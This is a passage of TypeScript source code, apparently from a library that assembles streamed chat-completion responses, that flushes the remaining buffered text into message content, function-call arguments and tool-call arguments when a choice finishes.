      const current = out[key];
      if (rest !== '') out = withMember(out, key, `${typeof current === 'string' ? current : ''}${rest}`);
    }
    const functionRest = end(streams.functionCall);
    if (functionRest !== '') {
      const current = isPlainObject(out.function_call) ? out.function_call : {};
      out.function_call = { ...current, arguments: `${typeof current.arguments === 'string' ? current.arguments : ''}${functionRest}` };
    }
    const calls: unknown[] = Array.isArray(out.tool_calls) ? [...(out.tool_calls as unknown[])] : [];
    const open = [...streams.tools, ...[...streams.closing].map(([callIndex, entry]) => [callIndex, entry.rehydrator] as const)];
    for (const [callIndex, rehydrator] of open.sort((a, b) => a[0] - b[0])) {
      const rest = end(rehydrator);
      if (rest === '') continue;
      const entry = calls.findIndex((call) => isPlainObject(call) && call.index === callIndex);
      const current = entry < 0 ? undefined : (calls[entry] as Record<string, unknown>);
      if (current !== undefined && isPlainObject(current.function) && typeof current.function.arguments === 'string') {
        calls[entry] = { ...current, function: { ...current.function, arguments: current.function.arguments + rest } };
      } else calls.push({ index: callIndex, function: { arguments: rest } });
    }
    if (calls.length > 0) out = withMember(out, 'tool_calls', calls);
    this.#choices.delete(index);
    this.#unfinished.delete(index);
    this.#finished.add(index);
    return out;
  }
}
